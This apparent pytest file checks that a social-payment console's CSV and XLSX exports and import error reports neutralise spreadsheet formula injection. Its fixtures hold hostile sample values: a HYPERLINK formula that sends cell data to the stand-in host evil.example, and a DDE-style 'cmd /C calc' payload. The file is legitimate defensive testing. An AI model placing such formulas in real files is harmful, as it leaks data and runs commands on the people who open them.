"""Formula injection: a list whose provider is typed as "=HYPERLINK(…)" and whose header is a
formula is imported through the console; the indicator exports and the error report the
officer downloads must show those texts, never run them in Excel."""
from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from console.exports import inert
from tests.console_support import make_officer, post, sign_in

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
LIST = ("Mã đối tượng,Họ và tên,Ngày sinh,=Mã xã,Diện đối tượng,Hình thức nhận,Đơn vị chi trả\n"
        f'HUE-0701,Lê Thị Một,1941,19786,NCT_80,Ví điện tử,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        "HUE-0702,Lê Thị Hai,31/02/1941,-19786,NCT_80,Tiền mặt,Bưu điện\n")
# A formula after a separator: a spreadsheet that splits on ";" "," or tab starts a cell there.
INSIDE = ["Quỹ Một;=1+2", "Quỹ Hai, @SUM(A1:A9)"]
LIST += "".join(f'HUE-07{10 + i},Lê Thị Ba,1941,19786,NCT_80,Ví điện tử,"{name}"\n' for i,
                name in enumerate(INSIDE))
RESULTS = "Kỳ chi trả,Mã đối tượng,Số tiền,Trạng thái\n" + "".join(
    f"11/2026,{code},500.000,Đã chi trả\n" for code in ["HUE-0701",
                                                        *(f"HUE-07{10 + i}" for i in range(len(INSIDE)))])


@pytest.fixture
def imported(app, sessions):
    app.config["CONSOLE_IMPORT_INLINE"] = True
    with sessions.begin() as session:
        make_officer(session, "tinh", "province", "46")
    client = app.test_client()
    sign_in(client, "tinh")
    jobs = []
    for kind, text in (("beneficiaries", LIST), ("payments", RESULTS)):
        response = post(client, "/console/imports",
                        {"kind": kind, "file": (io.BytesIO(text.encode()), f"{kind}.csv")},
                        content_type="multipart/form-data")
        jobs.append(response.headers["Location"])
    return client, jobs


def test_csv_export_neutralises_formulas(imported):
    client, _ = imported
    text = client.get("/console/indicators.csv?period=2026-11").get_data(as_text=True)
    assert "'" + EVIL.replace('"', '""') in text
    assert ";=" not in text and ",=" not in text and "\n=" not in text


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _quoted_all(text: str) -> bool:
    """Written field by field in double quotes, as the standard library's QUOTE_ALL writes them."""
    again = io.StringIO()
    csv.writer(again, delimiter=";", quoting=csv.QUOTE_ALL).writerows(_cells(text))
    return again.getvalue() == text.removeprefix("\ufeff")


def _no_formula_anywhere(text: str) -> bool:
    """No cell, nor any piece of one after a ; , tab or line break, starts a formula."""
    pieces = [
        piece.lstrip(" \t\r\n")
        for row in _cells(text)
        for cell in row
        for piece in re.split(r"[;,\t\r\n]", cell)
    ]
    return not [piece for piece in pieces if piece.startswith(("=", "+", "-", "@"))]


def test_csv_export_quotes_every_field_and_neutralises_formulas_inside_a_field(imported):
    client, _ = imported
    text = client.get("/console/indicators.csv?period=2026-11").get_data(as_text=True)
    assert _quoted_all(text) and _no_formula_anywhere(text)
    cells = [cell for row in _cells(text) for cell in row]
    assert "Quỹ Một;'=1+2" in cells and "Quỹ Hai, '@SUM(A1:A9)" in cells
    # An import turns a tab into a space; a tab that reaches an export some other way is covered too.
    assert inert("Quỹ Ba\t-3+4*cmd|' /C calc'!A0") == "Quỹ Ba\t'-3+4*cmd|' /C calc'!A0"
    assert inert("=1\n@2") == "'=1\n'@2" and inert(-5) == -5


def test_xlsx_export_keeps_formulas_as_text(imported):
    client, _ = imported
    book = load_workbook(io.BytesIO(client.get("/console/indicators.xlsx?period=2026-11").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    evil = [cell for cell in cells if cell.value == EVIL]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert not any(cell.data_type == "f" for cell in cells)


def test_error_report_neutralises_a_formula_header(imported):
    client, jobs = imported
    report = client.get(jobs[0] + "/errors.csv").get_data(as_text=True)
    assert '"3";"Ngày sinh";' in report and '"3";"\'=Mã xã";"Không có xã' in report
    assert _quoted_all(report) and _no_formula_anywhere(report)
